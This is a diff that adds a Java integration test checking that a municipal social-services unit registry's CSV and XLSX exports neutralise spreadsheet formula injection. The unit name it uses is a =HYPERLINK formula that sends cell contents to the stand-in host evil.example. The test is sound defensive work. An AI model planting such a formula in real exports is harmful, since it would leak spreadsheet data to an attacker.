@@ -196,6 +196,26 @@ class UnitServiceIT {
     }
   }
 
+  @Test
+  void a_unit_named_like_a_formula_is_exported_as_text_not_run_by_the_spreadsheet() throws Exception {
+    String tag = unique();
+    String name = "=HYPERLINK(\"http://evil.example/?d=\"&A1;\"Ver CRAS\") " + tag;
+    as(ITABIRITO, Role.MUNICIPAL_STAFF, () -> units.create(new UnitForm(UnitType.CRAS, name, "@Rua C, 30", null,
+        LocalDate.of(2010, 1, 4), null, 100, null, Set.of("PAIF"))));
+
+    String csv = new String(as(ITABIRITO, Role.COUNCIL_MEMBER,
+        () -> export.csv(tag, null, I18nConfiguration.PT_BR)), StandardCharsets.UTF_8);
+    assertThat(csv.lines().skip(1).toList()).containsExactly(
+        "CRAS;\"'" + name.replace("\"", "\"\"") + "\";'@Rua C, 30;;;04/01/2010;Ativa;100;PAIF");
+
+    byte[] xlsx = as(ITABIRITO, Role.COUNCIL_MEMBER, () -> export.xlsx(tag, null, I18nConfiguration.PT_BR));
+    try (ReadableWorkbook workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx))) {
+      Row row = workbook.getFirstSheet().read().get(1);
+      assertThat(row.getCellText(1)).isEqualTo("'" + name);
+      assertThat(row.getCellText(2)).isEqualTo("'@Rua C, 30");
+    }
+  }
+
   private static Set<UnitType> offeredBy(List<TypifiedServiceSummary> catalogue, String code) {
     return catalogue.stream().filter(s -> s.code().equals(code)).findFirst().orElseThrow().offeredBy();
   }
